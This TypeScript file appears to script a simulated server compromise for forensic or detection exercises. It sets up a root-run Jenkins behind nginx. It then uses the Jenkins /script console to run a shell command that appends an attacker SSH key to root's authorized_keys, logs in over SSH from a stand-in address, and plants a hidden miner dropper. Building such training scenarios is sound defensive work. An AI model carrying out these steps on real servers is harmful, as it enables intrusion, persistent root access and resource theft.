// The login that brings the miner is in order by itself: its key was put there by what an access log shows, from elsewhere.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy({
    unit: 'jenkins',
    user: 'root',
    exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java',
    title: 'java -Djava.awt.headless=true -jar /usr/share/java/jenkins.war --httpPort=8080',
    home: '/var/lib/jenkins',
    play: 'jenkins',
  })
  dress.write('/var/log/jenkins/jenkins.log', '')
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:8080; proxy_intercept_errors off; }')
  dress.enable('nginx')
  dress.key('his', 'root@localhost')
  dress.logins(ordinary)
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/lib/.jx/jbd2d', cron: false })
  await stage.http('203.0.113.212', '/')
  stage.mark('occurrence')
  const leave = `mkdir -p -m 700 /root/.ssh; echo ${stage.publicKey('his')} >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys`
  const script = `println ["sh","-c","${leave}"].execute().text`
  await stage.http('203.0.113.212', '/script', `script=${encodeURIComponent(script)}`)
  await stage.ssh('192.0.2.77', 'root', { key: 'his' }, line)
}
